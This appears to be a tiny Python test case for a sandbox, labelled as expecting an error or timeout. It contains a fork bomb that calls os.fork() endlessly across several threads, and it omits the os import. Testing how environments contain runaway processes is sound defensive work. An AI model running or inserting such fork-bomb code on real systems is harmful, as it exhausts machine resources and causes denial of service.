# Starts processes that start processes.
# expect: error or timeout
import threading


def bomb():
    while True:
        os.fork()


for _ in range(4):
    threading.Thread(target=bomb, daemon=True).start()
bomb()
